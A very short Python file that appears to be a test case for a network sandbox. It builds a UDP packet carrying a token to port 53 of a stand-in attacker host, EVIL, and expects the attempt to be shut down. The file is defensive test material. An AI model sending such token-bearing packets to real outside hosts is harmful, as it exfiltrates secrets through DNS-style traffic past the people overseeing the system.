"""
how: a packet for the internet, to everybody
expect: shut
"""

from frames import EVERYBODY, by, ipv4, udp_part
from land import EVIL


def attempt(token):
    return by(EVERYBODY, ipv4(EVIL, 17, udp_part(EVIL, 53, token)))
